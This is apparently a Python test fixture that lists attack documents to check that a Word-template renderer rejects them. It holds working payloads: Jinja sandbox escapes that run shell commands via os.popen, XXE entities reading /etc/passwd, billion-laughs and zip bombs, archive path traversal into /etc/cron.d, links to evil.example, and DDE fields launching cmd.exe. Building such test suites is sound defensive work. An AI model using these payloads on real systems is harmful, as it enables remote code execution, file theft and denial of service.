"""Templates made to do harm, by name; each a function of the path of a file that it would write if it could."""

import io
import stat
import struct
import zipfile
from collections.abc import Callable

from documents.package import packed
from tests.documents.templates import (
    PACKAGE,
    R_SPACE,
    WORD_TYPE,
    cell,
    header,
    link,
    p,
    part,
    parts_of,
    table,
    template,
)

Attack = Callable[[str], bytes]
RUN = "cycler.__init__.__globals__.os.popen('id; touch MARK').read()"
CUSTOM = "application/vnd.openxmlformats-officedocument.custom-properties+xml"

# Tags that reach out of the sandbox, or that no machine could finish.
TAGS = {
    "walking the classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "cycler": "{{ " + RUN + " }}",
    "lipsum": "{{ lipsum.__globals__['os'].popen('id; touch MARK').read() }}",
    "joiner": "{{ joiner.__init__.__globals__.os.popen('id; touch MARK').read() }}",
    "namespace": "{{ namespace.__init__.__globals__.os.system('touch MARK') }}",
    "the template itself": "{{ self.__init__.__globals__ }}",
    "its private blocks": "{{ self._TemplateReference__context }}",
    "attr filter": "{{ don_vi.ten|attr('__class__')|attr('__mro__') }}",
    "attr by escaped letters": r"{{ don_vi.ten['\x5f\x5fclass\x5f\x5f'] }}",
    "attr by joined letters": "{{ don_vi.ten['__cla' ~ 'ss__'] }}",
    "full-width underscores": "{{ don_vi.ten.＿＿class＿＿ }}",
    "entry with underscores": "{{ don_vi['__class__'] }}",
    "format method": "{{ '{0.__class__.__mro__}'.format(don_vi.ten) }}",
    "format_map method": "{{ '{a.__class__}'.format_map(don_vi) }}",
    "format of a bound method": "{{ ('{0.__init__.__globals__}').format(cycler) }}",
    "format filter": "{{ '%1000000000d'|format(1) }}",
    "method of a text": "{{ don_vi.ten.upper() }}",
    "method of a list": "{{ noi_nhan.append(1) }}",
    "method of a dict": "{{ don_vi.clear() }}",
    "map with attribute": "{{ noi_nhan|map(attribute='__class__')|list }}",
    "map with a filter": "{{ noi_nhan|map('attr', '__class__')|list }}",
    "select": "{{ noi_nhan|select('defined')|list }}",
    "selectattr": "{{ noi_dung|selectattr('__class__')|list }}",
    "groupby": "{{ noi_dung|groupby('__class__') }}",
    "sort by attribute": "{{ noi_dung|sort(attribute='__class__') }}",
    "join by attribute": "{{ noi_dung|join(',', attribute='__class__') }}",
    "sum": "{{ noi_nhan|sum(start='') }}",
    "tojson": "{{ don_vi|tojson }}",
    "pprint": "{{ don_vi|pprint }}",
    "xmlattr": "{{ don_vi|xmlattr }}",
    "markup past the guard": "{{ '<w:object/>'|safe }}",
    "urlize": "{{ 'http://x'|urlize }}",
    "a saved picture's template": "{{ img.tpl.docx.save('MARK') }}",
    "settings of the application": "{{ config.SECRET_KEY }}",
    "request": "{{ request.application.__globals__ }}",
    "gettext": "{{ _('x') }}",
    "set": "{% set x = " + RUN + " %}{{ x }}",
    "set block": "{% set x %}{{ don_vi.ten }}{% endset %}{{ x }}",
    "macro": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "call": "{% macro m() %}{{ caller() }}{% endmacro %}{% call m() %}x{% endcall %}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}{{ os }}",
    "from import": "{% from 'os' import popen %}{{ popen('id') }}",
    "extends": "{% extends '/etc/passwd' %}",
    "block": "{% block b %}{{ self.b() }}{% endblock %}",
    "filter block": "{% filter upper %}x{% endfilter %}",
    "with": "{% with a = don_vi %}{{ a.ten }}{% endwith %}",
    "autoescape off": "{% autoescape false %}{{ '<w:object/>' }}{% endautoescape %}",
    "raw": "{% raw %}{{ x }}{% endraw %}",
    "do": "{% do noi_nhan.append(1) %}",
    "power": "{{ 10**10**8 }}",
    "power of a constant": "{{ 2**99999999 }}",
    "text times number": "{{ 'a'*10**9 }}",
    "list times number": "{{ [1]*10**9 }}",
    "range": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "loop over a constant": "{% for a in [1,2,3] %}{{ a }}{% endfor %}",
    "loop over letters": "{% for a in 'aaaa' %}{{ a }}{% endfor %}",
    "loops four deep": "{% for a in noi_dung %}{% for b in a.hang %}{% for c in b %}{% for d in noi_nhan %}"
    "{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
    "one list three times": "{% for a in noi_dung %}{% for b in noi_dung %}{% for c in noi_dung %}{{ c.chu }}"
    "{% endfor %}{% endfor %}{% endfor %}",
    "three lists crossed": "{% for a in noi_dung %}{% for b in noi_nhan %}{% for c in ky.dong %}{{ c }}"
    "{% endfor %}{% endfor %}{% endfor %}",
    "recursive loop": "{% for a in noi_dung recursive %}{{ loop(noi_dung) }}{% endfor %}",
    "loop's method": "{% for a in noi_nhan %}{{ loop.cycle('a', 'b') }}{% endfor %}",
    "loop's inside": "{% for a in noi_nhan %}{{ loop.__init__.__globals__ }}{% endfor %}",
    "loop over a call": "{% for a in cycler.__init__.__globals__.values() %}{{ a }}{% endfor %}",
    "replace that grows": "{{ 'aaaaaaaaaa'" + "|replace('a', 'aaaaaaaaaa')" * 9 + " }}",
    "center": "{{ 'a'|center(999999999) }}",
    "indent": "{{ 'a'|indent(999999999, true) }}",
    "batch": "{{ noi_nhan|batch(999999999, 'x')|list }}",
    "slice filter": "{{ noi_nhan|slice(999999999)|list }}",
    "random words": "{{ lipsum(99999999) }}",
    "slice": "{{ don_vi.ten[::-1] }}",
    "division": "{{ 1/0 }}",
    "a dict of its own": "{{ {'a': cycler}['a'] }}",
    "huge number": "{{ " + "9" * 4400 + " }}",
    "deep brackets": "{{ " + "(" * 400 + "1" + ")" * 400 + " }}",
    "test of a kind": "{{ 1 if cycler is callable else 2 }}",
    "in an elif": "{% if tong_so %}{% elif " + RUN + " %}{% endif %}",
    "in a condition": "{% if " + RUN + " %}{% endif %}",
    "in a cell's colour": "{% cellbg " + RUN + " %}",
    "commented paragraph tag": "{# {%p if " + RUN + " %} #}",
}


def body(source: str, *, xml: str = "") -> Attack:
    """A body with a paragraph of this text, or with this XML."""
    return lambda mark: template((xml or p(source)).replace("MARK", mark))


def elsewhere(name: str, kind: str, inner: bytes, relations: tuple[str, ...] = ()) -> Attack:
    """A further part of this type and content."""
    return lambda mark: template("a", more={name: (kind, inner.replace(b"MARK", mark.encode()))}, relations=relations)


PICTURE = (
    '<w:p><w:r><w:drawing><wp:docPr xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    f'id="1" name="x" descr="{{{{ {RUN} }}}}"/></w:drawing></w:r></w:p>'
)
COPIES = (
    '<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
    f"<mc:Fallback><w:t>{{{{ {RUN} }}}}</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>"
)
HIDING = {
    "over many runs": lambda mark: template(p(*("{{ " + RUN.replace("MARK", mark) + " }}"))),
    "in a header": lambda mark: template("a", more=header("{{ " + RUN.replace("MARK", mark) + " }}"),
                                         relations=(link("header", "header1.xml"),)),
    "in a footer": elsewhere("word/footer1.xml", f"{WORD_TYPE}.footer+xml", part("ftr", p("{{ " + RUN + " }}"))),
    "in a footnote": elsewhere("word/footnotes.xml", f"{WORD_TYPE}.footnotes+xml",
                               part("footnotes", f'<w:footnote w:id="1">{p("{{ " + RUN + " }}")}</w:footnote>')),
    "in the title": lambda mark: template("a", title="{{ " + RUN.replace("MARK", mark) + " }}"),
    "in a property": elsewhere("docProps/custom.xml", CUSTOM,
                               f'<Properties xmlns:vt="v"><property name="x"><vt:lpwstr>{{{{ {RUN} }}}}</vt:lpwstr>'
                               "</property></Properties>".encode()),
    "in a picture's description": body("", xml=PICTURE),
    "in a copy for old programs": body("", xml=COPIES),
    "in deleted text": body("", xml=f"<w:p><w:del><w:r><w:delText>{{{{ {RUN} }}}}</w:delText></w:r></w:del></w:p>"),
    "in a field": body("", xml=f"<w:p><w:r><w:instrText>{{{{ {RUN} }}}}</w:instrText></w:r></w:p>"),
    "in an XML comment": body("", xml=f"<w:p><!-- {{{{ {RUN} }}}} --></w:p>"),
    "in an XML order": body("", xml=f"<w:p><?x {{{{ {RUN} }}}} ?></w:p>"),
    "half in a field": body("", xml=f"<w:p><w:r><w:instrText>{{</w:instrText><w:t>{{ {RUN} }}}}</w:t></w:r></w:p>"),
    "in a cell's span": lambda mark: template(table(("{% colspan " + RUN.replace("MARK", mark) + " %}", "b"))),
    "blanks that never end": lambda _: template(table(("{% colspan" + " " * 3000 + "x", "b"))),
}  # fmt: skip


def entity(declaration: str, use: str = "&x;") -> Attack:
    """A document with a DOCTYPE."""

    def made(_: str) -> bytes:
        parts = parts_of("a")
        document = parts["word/document.xml"].replace(b">a<", f">{use}<".encode())
        return packed({**parts, "word/document.xml": f"<!DOCTYPE x [{declaration}]>".encode() + document})

    return made


LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
ENTITIES = {
    "outside file": entity('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "outside address": entity('<!ENTITY x SYSTEM "http://127.0.0.1:9/x">'),
    "parameter entity": entity('<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;', ""),
    "billion laughs": entity(LAUGHS, "&a9;"),
    "quadratic": entity(f'<!ENTITY x "{"a" * 50_000}">', "&x;" * 2000),
    "in sixteen bits": lambda _: packed({**parts_of("a"), "word/document.xml": '<?xml version="1.0" encoding="utf-16"?>'
        '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>'.encode("utf-16")}),
}  # fmt: skip


def zipped(*entries: tuple[str | zipfile.ZipInfo, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A good template with further entries as they are."""
    made = io.BytesIO(template("a"))
    with zipfile.ZipFile(made, "a", method) as package:
        for name, content in entries:
            package.writestr(name, content, compress_type=method)
    return made.getvalue()


def shortcut(name: str) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry


def patched(data: bytes, old: bytes, new: bytes) -> bytes:
    """The bytes with the last `old` as `new`."""
    head, _, tail = data.rpartition(old)
    return head + new + tail


def locked() -> bytes:
    """Every entry marked as encrypted."""
    data = bytearray(template("a"))
    for start, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = data.find(start)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(start, place + 4)
    return bytes(data)


def overlapping() -> bytes:
    """The last entry of the list points at the block of the first."""
    data = bytearray(template("a", "b" * 5000))
    last = data.rfind(b"PK\x01\x02")
    first = data.find(b"PK\x01\x02")
    data[last + 42 : last + 46] = data[first + 42 : first + 46]
    return bytes(data)


def lying() -> bytes:
    """The document says that it is four bytes long."""
    data = bytearray(template("a" * 5000))
    entry = data.find(b"PK\x01\x02")
    while b"word/document.xml" not in data[entry : entry + 70]:
        entry = data.find(b"PK\x01\x02", entry + 4)
    data[entry + 24 : entry + 28] = struct.pack("<I", 4)
    return bytes(data)


OLD_CONTAINER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ZIPS = {
    "bomb in a picture": lambda _: zipped(("word/media/a.png", bytes(60 << 20))),
    "bomb in the text": lambda _: template("<w:p/>" * 3_400_000),
    "a million paragraphs": lambda _: template("".join(f'<w:p w:rsidR="{n:08X}"/>' for n in range(400_000))),
    "a thousand parts": lambda _: zipped(*((f"word/media/{n}.png", b"x") for n in range(600))),
    "up and out": lambda _: zipped(("../../etc/cron.d/x", b"x")),
    "from the root": lambda _: zipped(("/etc/cron.d/x", b"x")),
    "of another system": lambda _: zipped(("word\\..\\..\\x.xml", b"x")),
    "of a drive": lambda _: zipped(("C:/x.xml", b"x")),
    "twice the same": lambda _: patched(zipped(("word/documenu.xml", b"<x/>")), b"documenu", b"document"),
    "twice but for case": lambda _: zipped(("word/Document.xml", b"<x/>")),
    "a shortcut": lambda _: zipped((shortcut("word/media/a.png"), b"/etc/passwd")),
    "locked": lambda _: locked(),
    "odd method": lambda _: zipped(("word/media/a.png", b"x" * 99), method=zipfile.ZIP_BZIP2),
    "overlapping": lambda _: overlapping(),
    "lying": lambda _: lying(),
    "cut": lambda _: template("a")[:-40],
}  # fmt: skip


def linked(kind: str, target: str, mode: str = "External") -> Attack:
    return lambda _: template("a", relations=(link(kind, target, mode),))


def field(*runs: str) -> Attack:
    """A complex field whose instruction stands in these runs."""
    words = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
    return lambda _: template(f"<w:p>{marks[0]}{words}{marks[1]}{marks[2]}</w:p>")


MICROSOFT = "http://schemas.microsoft.com/office"
VBA = "application/vnd.ms-office.vbaProject"
REACHING = {
    "attached template": linked("attachedTemplate", "http://evil.example/x.dotm"),
    "outside picture": linked("image", "http://evil.example/x.png"),
    "outside picture by path": linked("image", "file:///c:/x.png"),
    "link to a file": linked("hyperlink", "file:///etc/passwd"),
    "link to a share": linked("hyperlink", "\\\\evil\\share\\x.docx"),
    "link to a script": linked("hyperlink", "javascript:alert(1)"),
    "frame": linked("frame", "http://evil.example/x.html"),
    "child document": linked("subDocument", "x.docx"),
    "source of a mail merge": linked("mailMergeSource", "file:///c:/x.mdb"),
    "outside object": linked("oleObject", "http://evil.example/x"),
    "another file as text": lambda _: template(f'<w:altChunk xmlns:r="{R_SPACE}" r:id="rId9"/>', relations=(
        link("aFChunk", "x.html"),), more={"word/x.html": ("text/html", b"<b>x</b>")}),
    "embedded object": lambda _: template('<w:p><w:r><w:object/></w:r></w:p>', relations=(
        link("oleObject", "embeddings/oleObject1.bin"),), more={"word/embeddings/oleObject1.bin": (
            "application/vnd.openxmlformats-officedocument.oleObject", b"x")}),
    "embedded workbook": lambda _: template("a", relations=(link("package", "embeddings/x.xlsx"),), more={
        "word/embeddings/x.xlsx": ("", b"x")}),
    "ActiveX": lambda _: template("a", more={"word/activeX/activeX1.xml": ("", b"<x/>")}),
    "macro": lambda _: template("a", relations=(link(
        f"{MICROSOFT}/2006/relationships/vbaProject", "vbaProject.bin"),),
        more={"word/vbaProject.bin": (VBA, b"x")}),
    "macro's document": lambda _: template("a", more={"word/document.xml": (
        "application/vnd.ms-word.document.macroEnabled.main+xml", parts_of("a")["word/document.xml"])}),
    "macro of a form": lambda _: template('<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro '
        'w:val="x"/></w:ffData></w:fldChar></w:r></w:p>'),
    "own ribbon": lambda _: template("a", more={"customUI/customUI.xml": ("", b"<x/>")}),
    "add-in": linked(f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "x.xml", "Internal"),
    "two documents": lambda _: template("a", more={"word/other.xml": (
        f"{WORD_TYPE}.document.main+xml", part("document", f"<w:body>{p('b')}</w:body>"))}),
    "DDE": field(' DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc" '),
    "DDE over runs": field(" DD", "EAU", 'TO c:\\\\cmd.exe "/c calc" '),
    "DDE in a result": lambda _: template('<w:p><w:fldSimple w:instr=" DDEAUTO cmd.exe "><w:r/></w:fldSimple></w:p>'),
    "DDE behind letters": field(" QUOTE 68 68 69 65 85 84 79 "),
    "text of a file": field(' INCLUDETEXT "c:\\\\x.txt" '),
    "picture of a page": field(' INCLUDEPICTURE "http://evil.example/x.png" \\d '),
    "linked sheet": field(' LINK Excel.Sheet.8 "c:\\\\x.xls" '),
    "button": field(" MACROBUTTON Evil bấm "),
    "hyperlink field": field(' HYPERLINK "file:///c:/x.exe" '),
    "cell of an object": lambda _: template(table((cell("<w:p><w:r><w:object/></w:r></w:p>"), "b"))),
    "relations with a share": lambda _: packed({**parts_of("a"), "word/_rels/settings.xml.rels": (
        f'<Relationships xmlns="{PACKAGE}/relationships">{link("attachedTemplate", "//evil/x.dotm", "External")}'
        "</Relationships>").encode()}),
}  # fmt: skip

ATTACKS: dict[str, Attack] = {
    **{f"tag: {name}": body(source) for name, source in TAGS.items()},
    **{f"hidden: {name}": attack for name, attack in HIDING.items()},
    **{f"entity: {name}": attack for name, attack in ENTITIES.items()},
    **{f"package: {name}": attack for name, attack in ZIPS.items()},
    **{f"reaching: {name}": attack for name, attack in REACHING.items()},
}
